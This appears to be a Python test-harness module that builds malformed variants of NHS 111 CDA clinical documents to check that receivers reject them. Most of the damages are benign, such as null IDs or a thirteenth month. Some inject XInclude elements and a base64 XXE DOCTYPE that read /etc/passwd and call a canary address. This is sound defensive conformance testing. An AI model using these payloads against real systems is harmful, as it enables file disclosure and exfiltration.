"""What can be wrong with the CDA document of a report: one function a damage, on the tree of the message.

Source: the receiver cases of interface sheet nhs111-itk22, section 6.2; each damage names its case there.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from copy import deepcopy
from dataclasses import replace
from datetime import datetime

from cpcs_harness.people.model import Report

from ..attachment import attachment
from ..envelope import add
from ..nodes import CDA, Node
from .tree import NS, Damage, dropping, needed

_ID, _SET_ID = ".//h:ClinicalDocument/h:id", ".//h:ClinicalDocument/h:setId"
_ID_OF_LAST = ".//itk:payload[last()]/h:ClinicalDocument/h:id"
"""Of a set the last document, of a single one that."""


def _not_a_document(root: Node, _report: Report, _now: datetime) -> None:
    needed(root, ".//h:ClinicalDocument").tag = f"{{{CDA}}}Observation"


def _two_patients(root: Node, _report: Report, _now: datetime) -> None:
    target = needed(root, ".//h:recordTarget")
    other = deepcopy(target)
    needed(other, ".//h:name/h:family").text = "Other"
    target.addnext(other)


def _null_disposition(root: Node, _report: Report, _now: datetime) -> None:
    code = needed(root, ".//h:dischargeDispositionCode")
    code.attrib.clear()
    code.set("nullFlavor", "NI")


def _null_id(path: str) -> Damage:
    def damage(root: Node, _report: Report, _now: datetime) -> None:
        own = needed(root, path)
        own.attrib.clear()
        own.set("nullFlavor", "NI")

    return damage


def _month_13(root: Node, _report: Report, _now: datetime) -> None:
    """Have the document written in a month that no calendar has, and at the day and the hour that it was."""
    written = needed(root, ".//h:ClinicalDocument/h:effectiveTime")
    value = written.get("value", "")
    written.set("value", f"{value[:4]}13{value[6:]}")


def _template(root: Node, _report: Report, _now: datetime) -> None:
    for element in root.iter():
        if isinstance(element.tag, str) and "COCD_TP145201GB01" in element.get("extension", ""):
            element.set("extension", element.get("extension", "").replace("145201GB01", "145201GB09"))


def _message_type(root: Node, _report: Report, _now: datetime) -> None:
    for element in root.iter("{NPFIT:HL7:Localisation}messageType"):
        element.set("extension", "POCD_MT200001GB99")


def _xinclude(target: Callable[[Report], str]) -> Damage:
    """Include one text: of two, whoever cannot have the one refuses the message, whatever became of the other."""

    def damage(root: Node, report: Report, _now: datetime) -> None:
        text = needed(root, ".//h:section/h:component/h:section/h:text")
        names = {"xi": "http://www.w3.org/2001/XInclude"}
        part = add(text, names["xi"], "include", nsmap=names)
        part.set("href", target(report))
        part.set("parse", "text")

    return damage


def _attachment_doctype(canary: str) -> Damage:
    """Put a document type and entities into the attachment, in base64; the referral around it is sound."""

    def damage(root: Node, report: Report, _now: datetime) -> None:
        media = root.find(".//h:observationMedia", NS)
        if media is None:
            (entry,) = attachment(replace(report, forms=("attachment",)))
            needed(root, ".//h:structuredBody/h:component/h:section/h:id").addnext(entry)
            media = needed(entry, "h:observationMedia")
        hostile = (
            '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY f SYSTEM "file:///etc/passwd">'
            f'<!ENTITY h SYSTEM "{canary}/{report.document_id}/attachment">]><c>&f;&h;</c>'
        )
        needed(media, "h:value").text = base64.b64encode(hostile.encode()).decode()

    return damage


def document_damages(canary: str) -> dict[str, Damage]:
    """Give every damage by its name; `canary` is an address that appears in hostile messages only."""
    return _DAMAGES | {
        "xinclude-file": _xinclude(lambda _: "file:///etc/passwd"),  # R24
        "xinclude-http": _xinclude(lambda report: f"{canary}/{report.document_id}/xinclude-http"),  # R24
        "attachment-doctype": _attachment_doctype(canary),  # R26
    }


_DAMAGES: dict[str, Damage] = {
    "not-a-document": _not_a_document,  # R17
    "no-patient": dropping(".//h:recordTarget"),
    "no-disposition": dropping(".//h:dischargeDispositionCode"),
    "two-patients": _two_patients,
    "no-body": dropping(".//h:ClinicalDocument/h:component"),
    "unknown-template": _template,  # R18
    "unknown-message-type": _message_type,  # R19
    "disposition-null": _null_disposition,  # R20
    "no-document-id": dropping(_ID),
    "document-id-null": _null_id(_ID),
    "no-set-id": dropping(_SET_ID),
    "set-id-null": _null_id(_SET_ID),
    "month-13": _month_13,
    "last-without-id": dropping(_ID_OF_LAST),
    "last-id-null": _null_id(_ID_OF_LAST),
}
